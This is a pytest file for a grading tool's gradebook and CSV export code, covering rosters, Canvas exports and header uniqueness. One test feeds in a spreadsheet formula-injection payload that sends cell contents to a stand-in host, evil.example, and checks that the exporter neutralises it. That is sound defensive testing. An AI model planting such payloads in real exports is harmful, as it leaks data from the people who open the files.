"""The gradebook: grades.csv with maxima, seed and version; the roster; the Canvas and generic exports."""

from __future__ import annotations

import csv

import pytest

from grader.batch.gradebook import (
    build_gradebook,
    read_roster,
    write_export,
    write_grades_csv,
    write_students_csv,
)
from grader.batch.rows import GRADED, NOT_GRADED, Row
from grader.errors import InputError

LABS = ("01-rnn-cells", "04-gradient-clipping")


def _row(name, student, lab, score, status=GRADED):
    maxima = {"01-rnn-cells": {"a": 12.0, "b": 10.0}, "04-gradient-clipping": {"a": 5.0, "c": 6.0}}[lab]
    checks = {"a": min(score, maxima["a"]), next(k for k in maxima if k != "a"): max(0.0, score - maxima["a"])}
    if status != GRADED:
        checks = {}
    return Row(name, f"{student}/{name}.ipynb", status, lab=lab, framework="torch", score=score,
               max_score=sum(maxima.values()), checks=checks, check_max=maxima, student=student, seed=3,
               grader_version="0.1.0", message="" if status == GRADED else "not a notebook")


ROWS = [
    _row("alice__lab01", "alice", "01-rnn-cells", 22.0),
    _row("alice__lab04", "alice", "04-gradient-clipping", 8.0),
    _row("bob__lab01", "bob", "01-rnn-cells", 12.0),
    _row("bob__lab01_again", "bob", "01-rnn-cells", 17.0),  # two notebooks of one lab: the best counts once
    _row("carol__lab01", "carol", "01-rnn-cells", 0.0, NOT_GRADED),
    _row("zed__lab04", "zed", "04-gradient-clipping", 11.0),  # on no roster line
]


def _roster(tmp_path):
    path = tmp_path / "classroom_roster.csv"
    path.write_text('\ufeff"identifier","github_username","github_id","name"\n'
                    '"s-001","alice","101","Alice Ang"\n"s-002","Bob","102","Bob Bo"\n'
                    '"s-003","carol","103","Carol Cy"\n"s-004","","","Dan Du"\n', encoding="utf-8")
    return path


def test_grades_csv_has_every_checks_points_and_maximum_the_seed_and_the_version(tmp_path):
    write_grades_csv(ROWS, tmp_path / "grades.csv")
    table = list(csv.DictReader((tmp_path / "grades.csv").open()))
    header = list(table[0])
    assert header[:8] == ["submission", "student", "notebook", "status", "lab", "framework", "score", "max_score"]
    assert header[8:-3] == ["a", "a (max)", "b", "b (max)", "c", "c (max)"]  # each check once
    assert header[-3:] == ["seed", "grader_version", "message"]
    assert table[0]["a"] == "12" and table[0]["b (max)"] == "10" and table[0]["c"] == ""
    assert table[1]["a (max)"] == "5" and table[1]["c"] == "3"  # the same check id, this lab's maximum
    assert table[4]["a"] == "" and table[4]["a (max)"] == "" and table[4]["status"] == NOT_GRADED
    assert table[4]["score"] == "" and table[4]["max_score"] == ""  # not graded: no points, not a zero
    assert {row["seed"] for row in table} == {"3"} and {row["grader_version"] for row in table} == {"0.1.0"}


def test_a_github_classroom_roster_maps_folders_to_students(tmp_path):
    roster = read_roster(_roster(tmp_path))
    assert [s.github_username for s in roster] == ["alice", "Bob", "carol", ""]
    book = build_gradebook(ROWS, roster)
    by_key = {total.key: total for total in book.students}
    assert [row.name for row in by_key["Bob"].rows] == ["bob__lab01", "bob__lab01_again"]  # case-insensitive
    assert by_key["Bob"].total(LABS) == 17.0 and by_key["alice"].total(LABS) == 30.0
    assert [s.name for s in book.missing] == ["Dan Du"]
    assert [total.key for total in book.unmatched] == ["zed"]
    write_students_csv(book, LABS, tmp_path / "students.csv")
    students = {s["name"] or s["github_username"]: s for s in csv.DictReader((tmp_path / "students.csv").open())}
    assert students["Alice Ang"]["01-rnn-cells"] == "22" and students["Alice Ang"]["score"] == "30"
    assert students["Alice Ang"]["max_score"] == "33"
    assert students["Carol Cy"]["status"] == "1 not graded" and students["Carol Cy"]["01-rnn-cells"] == ""
    assert students["Dan Du"]["status"] == "no submission" and students["Dan Du"]["submissions"] == "0"
    assert students["zed"]["on_roster"] == "no" and students["zed"]["04-gradient-clipping"] == "11"


def test_the_canvas_export_is_what_the_gradebook_import_reads(tmp_path):
    book = build_gradebook(ROWS, read_roster(_roster(tmp_path)))
    write_export(book, ROWS, LABS, "canvas", tmp_path / "canvas.csv")
    rows = list(csv.reader((tmp_path / "canvas.csv").open()))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01-rnn-cells", "04-gradient-clipping"]
    assert rows[1] == ["Points Possible", "", "", "", "", "22", "11"]
    assert rows[2] == ["Alice Ang", "", "s-001", "", "", "22", "8"]
    assert rows[3] == ["Bob Bo", "", "s-002", "", "", "17", ""]  # no lab 04 notebook: left empty, not a zero
    assert all(len(row) == 7 for row in rows) and not any(row[0] == "zed" for row in rows)
    write_export(book, ROWS[:1], LABS[:1], "canvas", tmp_path / "one.csv", assignment="Lab 1: RNN cells (4711)")
    assert next(csv.reader((tmp_path / "one.csv").open()))[-1] == "Lab 1: RNN cells (4711)"


def test_the_generic_export_lists_everyone_with_totals(tmp_path):
    book = build_gradebook(ROWS, None)
    write_export(book, ROWS, LABS, "csv", tmp_path / "book.csv")
    rows = list(csv.DictReader((tmp_path / "book.csv").open()))
    assert rows[0]["name"] == "points possible" and rows[0]["total"] == "33"
    by_user = {row["github_username"]: row for row in rows[1:]}
    assert set(by_user) == {"alice", "bob", "carol", "zed"}
    assert by_user["alice"]["total"] == "30" and by_user["bob"]["01-rnn-cells"] == "17"


def test_an_unusable_roster_is_one_clear_error(tmp_path):
    with pytest.raises(InputError, match="cannot read the roster"):
        read_roster(tmp_path / "missing.csv")
    bad = tmp_path / "bad.csv"
    bad.write_text("student,email\nx,y\n")
    with pytest.raises(InputError, match="no column identifier, github_username"):
        read_roster(bad)
    binary = tmp_path / "binary.csv"
    binary.write_bytes(b"\xff\xfe\x00\x81garbage")
    with pytest.raises(InputError, match="cannot read the roster"):
        read_roster(binary)


def test_student_text_never_becomes_a_spreadsheet_formula(tmp_path):
    row = _row("mallory__lab01", "mallory", "01-rnn-cells", 0.0, NOT_GRADED)
    row.message = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    write_grades_csv([row], tmp_path / "grades.csv")
    message = next(csv.DictReader((tmp_path / "grades.csv").open()))["message"]
    assert message.startswith("'=HYPERLINK(")


# -- every file reads back as a table: unique headers, empty cells where nothing was graded -------------

def _lab_row(name, student, lab, failing=(), status=GRADED, framework="torch"):
    """A row as a batch makes it from a real lab's checks (every check passed but ``failing``)."""
    from grader.course.labs import load_lab

    maxima = {check.id: float(check.points) for check in load_lab(lab).checks_for(framework)}
    checks = {} if status != GRADED else {k: (0.0 if k in failing else v) for k, v in maxima.items()}
    return Row(name, f"{student}/{name}.ipynb", status, lab=lab, framework=framework,
               score=sum(checks.values()), max_score=sum(maxima.values()), checks=checks, check_max=maxima,
               student=student, seed=3, grader_version="0.1.0", message="" if status == GRADED else "not a notebook")


def _headers(path):
    """The header of a CSV file as csv.reader, csv.DictReader and pandas read it."""
    pandas = pytest.importorskip("pandas")
    with path.open(newline="") as handle:
        raw = next(csv.reader(handle))
    with path.open(newline="") as handle:
        fields = csv.DictReader(handle).fieldnames
    return raw, fields, list(pandas.read_csv(path, dtype=str).columns)


@pytest.mark.parametrize("labs, columns", [
    (("01-rnn-cells",), 8 + 2 * 10 + 3),
    (("01-rnn-cells", "04-gradient-clipping"), 8 + 2 * (10 + 7) + 3),
    (("03-windowing-forecast", "05-improving-rnns"), 8 + 2 * (9 + 10 - 1) + 3),  # one check id in both labs
])
def test_every_header_of_every_file_is_unique(tmp_path, labs, columns):
    rows = [_lab_row(f"{student}__{lab}", student, lab, failing=("rnn-step",))
            for student in ("alice", "bob") for lab in labs]
    rows.append(_lab_row("carol__lab", "carol", labs[0], status=NOT_GRADED))
    write_grades_csv(rows, tmp_path / "grades.csv")
    book = build_gradebook(rows, read_roster(_roster(tmp_path)))
    write_students_csv(book, labs, tmp_path / "students.csv")
    write_export(book, rows, labs, "canvas", tmp_path / "canvas.csv")
    write_export(book, rows, labs, "csv", tmp_path / "generic.csv")
    for name in ("grades.csv", "students.csv", "canvas.csv", "generic.csv"):
        raw, fields, frame = _headers(tmp_path / name)
        assert len(set(raw)) == len(raw), (name, [c for c in raw if raw.count(c) > 1])
        assert fields == raw and frame == raw, name  # pandas renames a repeated column ("rnn-step.1")
    assert len(_headers(tmp_path / "grades.csv")[0]) == columns


def test_a_row_that_was_not_graded_has_no_score_and_no_maximum(tmp_path):
    pandas = pytest.importorskip("pandas")
    rows = [_lab_row("alice__lab", "alice", "01-rnn-cells"),  # 22
            _lab_row("bob__lab", "bob", "01-rnn-cells", failing=("count-params", "gru-step")),  # 17
            _lab_row("carol__lab", "carol", "01-rnn-cells", status=NOT_GRADED),
            _lab_row("dan__lab", "dan", "01-rnn-cells", status="grader error")]
    assert [row.score for row in rows[:2]] == [22.0, 17.0]
    write_grades_csv(rows, tmp_path / "grades.csv")
    frame = pandas.read_csv(tmp_path / "grades.csv")
    assert frame["score"].mean() == 19.5 and frame["max_score"].mean() == 22.0  # over the graded rows only
    assert frame["score"].count() == 2 and frame["rnn-step (max)"].count() == 2
    table = list(csv.DictReader((tmp_path / "grades.csv").open()))
    for row in table[2:]:
        cells = {key: value for key, value in row.items() if key not in ("submission", "student", "notebook",
                                                                          "status", "lab", "framework", "seed",
                                                                          "grader_version", "message")}
        assert set(cells.values()) == {""}, row  # every score and maximum left empty
        assert row["status"] in (NOT_GRADED, "grader error") and row["message"]


def test_a_check_named_like_a_column_of_grades_csv_gets_a_column_of_its_own(tmp_path):
    row = Row("alice__lab", "alice/lab.ipynb", GRADED, lab="x", score=3.0, max_score=4.0,
              checks={"score": 1.0, "seed": 2.0}, check_max={"score": 2.0, "seed": 2.0}, seed=7)
    write_grades_csv([row], tmp_path / "grades.csv")
    raw, _, _ = _headers(tmp_path / "grades.csv")
    assert len(set(raw)) == len(raw) and "check score (max)" in raw
    table = next(csv.DictReader((tmp_path / "grades.csv").open()))
    assert table["score"] == "3" and table["check score"] == "1" and table["seed"] == "7" and table["check seed"] == "2"
